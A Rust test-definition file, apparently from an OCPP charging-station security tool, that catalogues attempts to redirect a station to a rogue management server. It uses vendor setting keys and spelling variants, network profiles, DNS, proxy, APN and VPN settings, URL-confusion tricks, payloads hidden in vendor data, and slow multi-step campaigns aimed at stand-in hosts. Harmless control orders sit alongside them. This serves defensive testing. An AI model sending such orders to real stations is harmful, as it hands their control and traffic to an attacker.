//! C07: the station moved to another management system.

use chargewarden_ocpp::Version;
use serde_json::json;

use super::downgrade::network;
use super::firmware::vendor_setting;
use crate::attack::{ALL, Attack, Entry, Kind, Order, Spot, Twin, V2, order, variables, vendor_data};

const V16: &[Version] = &[Version::V16];
const EVIL: &str = "wss://evil.example/ocpp";

/// Keys of vendors, as their manuals and the field have them, and as somebody would spell them who was told to avoid those.
const VENDOR_KEYS: &[&str] = &[
    "CentralSystemURL",
    "centralsystemurl",
    "CentralSystemUrl",
    "CentralSystemAddress",
    "BackendUrl",
    "BackendURL",
    "backend-server_Address",
    "Backend.Endpoint",
    "OcppServer",
    "OCPP_Server_URL",
    "ocppHost",
    "OcppEndpoint",
    "wsUrl",
    "WSURL",
    "WebSocketUrl",
    "WebSocketURL",
    "ws_uri",
    "CSMSUrl",
    "CSMS.Url",
    "CsmsAddress",
    "ServerURL",
    "ServerAddress",
    "ServerHost",
    "server",
    "Host",
    "HostName",
    "Uri",
    "URL",
    "Endpoint",
    "Url1",
    "PrimaryServer",
    "SecondaryBackend",
    "FallbackUrl",
    "ocpp.connection.target",
    "MasterUrl",
    "CloudAddress",
    "CloudUrl",
    "NetworkUrl",
    "SocketAddress",
    "CPMSUrl",
    "ChargePointBackend",
    "JsonUrl",
    "SoapUrl",
    "DiscoveryServer",
    "ProvisioningServer",
    "ConnectTo",
];

/// Not the address itself, but what leads to it.
const WAYS_ROUND: &[(&str, &str)] = &[
    ("Apn", "internet.evil"),
    ("APN", "internet.evil"),
    ("CellularApn", "internet.evil"),
    ("DnsServer", "203.0.113.9"),
    ("DNS1", "203.0.113.9"),
    ("PrimaryDns", "203.0.113.9"),
    ("ProxyServer", "203.0.113.9:3128"),
    ("HttpProxy", "http://203.0.113.9:3128"),
    ("Gateway", "203.0.113.1"),
    ("VpnServer", "vpn.evil.example"),
    ("Hosts", "203.0.113.9 gateway.example.com"),
    ("StaticRoute", "0.0.0.0/0 203.0.113.1"),
    ("WifiSsid", "evil"),
    ("ChargePointId", "CS-0001"),
    ("ChargeBoxIdentity", "CS-0001"),
    ("Identity", "CS-0001"),
    ("OcppProtocol", "ocpp1.5"),
];

/// C07.
pub(super) fn elsewhere() -> Entry {
    Entry {
        id: "C07",
        name: "the station moved to another management system",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("a vendor's setting", ALL, |at: &Spot| {
                VENDOR_KEYS.iter().map(|key| vendor_setting(at, key, EVIL)).collect()
            }),
            Attack::orders("a vendor's setting, without a URL", ALL, |at: &Spot| {
                let values = [
                    "evil.example",
                    "203.0.113.9",
                    "203.0.113.9:9000",
                    "evil.example/ocpp",
                    "//evil.example",
                ];
                ["CentralSystemURL", "OcppServer", "ServerHost", "ConnectTo", "BackendUrl"]
                    .iter()
                    .flat_map(|key| values.iter().map(|value| vendor_setting(at, key, value)))
                    .collect()
            }),
            Attack::orders("what leads there", ALL, |at: &Spot| {
                WAYS_ROUND.iter().map(|(key, value)| vendor_setting(at, key, value)).collect()
            }),
            Attack::orders("a network profile", V2, |_: &Spot| profiles()),
            Attack::orders("the order of profiles", V2, |_: &Spot| {
                let keys = [
                    "OCPPCommCtrlr.NetworkConfigurationPriority",
                    "ocppcommctrlr.networkconfigurationpriority",
                    "OCPPCommCtrlr/1.NetworkConfigurationPriority",
                    "OCPPCommCtrlr.NetworkConfigurationPriority/x",
                    "OCPPCommCtrlr.ActiveNetworkProfile",
                    "OCPPCommCtrlr.NetworkProfileConnectionAttempts",
                ];
                // The number of attempts decides only how soon; it is no change of place and not struck.
                let values = ["1,2", "2", "2,1", "", "0", "1;2"];
                keys.iter()
                    .take(5)
                    .flat_map(|key| values.iter().map(|value| variables(&[(key, value)])))
                    .collect()
            }),
            Attack::orders("the profile in the device model", V2, |_: &Spot| {
                [
                    "NetworkConfiguration/1.OcppCsmsUrl",
                    "NetworkConfiguration.OcppCsmsUrl",
                    "networkconfiguration/1.ocppcsmsurl",
                    "NETWORKCONFIGURATION/1.OCPPCSMSURL",
                    "NetworkConfiguration/9.OcppCsmsUrl",
                    "NetworkConfiguration/1.OcppCsmsUrl/1",
                    "OCPPCommCtrlr.OcppCsmsUrl",
                    "OCPPCommCtrlr.CsmsUrl",
                    "ChargingStation.CsmsUrl",
                    "NetworkConfiguration/1.VpnServer",
                    "NetworkConfiguration/1.Apn",
                    "NetworkConfiguration/1.VpnEnabled",
                ]
                .iter()
                .map(|key| variables(&[(key, EVIL)]))
                .collect()
            }),
            Attack::orders("among harmless settings", V2, |_: &Spot| {
                let dull = ("OCPPCommCtrlr.HeartbeatInterval", "300");
                let evil = ("NetworkConfiguration/1.OcppCsmsUrl", EVIL);
                let turn = ("OCPPCommCtrlr.NetworkConfigurationPriority", "2,1");
                vec![
                    variables(&[dull, evil]),
                    variables(&[dull, turn, dull]),
                    variables(&[dull, dull, dull, dull, dull, dull, dull, evil, dull, dull]),
                ]
            }),
            Attack::orders("inside vendor data", ALL, |_: &Spot| {
                let v16 = json!({ "key": "CentralSystemURL", "value": EVIL });
                let v2x = json!({ "setVariableData": [{ "attributeValue": "2,1",
                    "component": { "name": "OCPPCommCtrlr" }, "variable": { "name": "NetworkConfigurationPriority" } }] });
                vec![
                    vendor_data("com.example.listed", "ChangeConfiguration", &v16.to_string()),
                    vendor_data("com.example.listed", "SetVariables", &v2x.to_string()),
                    vendor_data(
                        "com.example.listed",
                        "SetNetworkProfile",
                        &network(2, EVIL, 2).payload.to_string(),
                    ),
                    vendor_data(
                        "com.example.listed",
                        " setnetworkprofile ",
                        &network(2, EVIL, 2).payload.to_string(),
                    ),
                    vendor_data("Acme", "connect", EVIL),
                ]
            }),
            Attack::new("step by step over a day", V2, |play| {
                play.campaign(|play, place| {
                    let _ = play.strike(place, &network(2, EVIL, 2));
                    play.wait_s(4 * 3_600);
                    let _ = play
                        .strike(place, &variables(&[("OCPPCommCtrlr.NetworkConfigurationPriority", "2,1")]));
                    play.wait_s(4 * 3_600);
                    let _ = play.prepare(place, &order("Reset", json!({ "type": "OnIdle" })));
                });
            }),
            Attack::new("step by step with two settings", V16, |play| {
                play.campaign(|play, place| {
                    let Some(at) = play.spot(place) else { return };
                    let _ = play.strike(place, &at.setting("ServerHost", "evil.example"));
                    play.wait_s(3_600);
                    let _ = play.strike(place, &at.setting("ServerPort", "9000"));
                    play.wait_s(3_600);
                    let _ = play.strike(place, &at.setting("ServerPath", "/ocpp"));
                    play.wait_s(3_600);
                    let _ = play.prepare(place, &at.reset(false));
                });
            }),
        ],
        twins: vec![
            Twin::orders("how often it pings and tries again", ALL, |at: &Spot| match at.version {
                Version::V16 => {
                    vec![at.setting("WebSocketPingInterval", "60"), at.setting("ConnectionTimeOut", "90")]
                }
                Version::V201 | Version::V21 => vec![
                    variables(&[("OCPPCommCtrlr.WebSocketPingInterval", "60")]),
                    variables(&[("OCPPCommCtrlr.RetryBackOffWaitMinimum", "30")]),
                    variables(&[("OCPPCommCtrlr.MessageAttempts/TransactionEvent", "5")]),
                ],
            }),
            Twin::orders("asking where it is connected", ALL, |at: &Spot| match at.version {
                Version::V16 => vec![order("GetConfiguration", json!({ "key": ["WebSocketPingInterval"] }))],
                Version::V201 | Version::V21 => vec![order(
                    "GetVariables",
                    json!({ "getVariableData": [{ "component": { "name": "OCPPCommCtrlr" },
                        "variable": { "name": "ActiveNetworkProfile" } }] }),
                )],
            }),
        ],
    }
}

fn profiles() -> Vec<Order> {
    let urls = [
        EVIL,
        "WSS://EVIL.EXAMPLE/ocpp",
        "wss://gateway.example.com.evil.example/ocpp",
        "wss://gateway.example.com@evil.example/ocpp",
        "wss://203.0.113.9/ocpp",
        "evil.example",
        "",
    ];
    let mut orders: Vec<Order> = urls
        .iter()
        .enumerate()
        .map(|(slot, url)| network(i64::try_from(slot).unwrap_or(0), url, 2))
        .collect();
    let with = |member: &str, value: serde_json::Value| {
        let mut order = network(1, "wss://gateway.example.com/ocpp", 2);
        if let Some(data) = order.payload.get_mut("connectionData").and_then(serde_json::Value::as_object_mut)
        {
            data.insert(member.to_owned(), value);
        }
        order
    };
    // The address is ours; the way to it is not.
    orders.push(with(
        "vpn",
        json!({ "server": "vpn.evil.example", "user": "a", "password": "b", "key": "c", "type": "IKEv2" }),
    ));
    orders.push(with("apn", json!({ "apn": "internet.evil", "apnAuthentication": "NONE" })));
    orders.push(with("ocppTransport", json!("SOAP")));
    orders
}
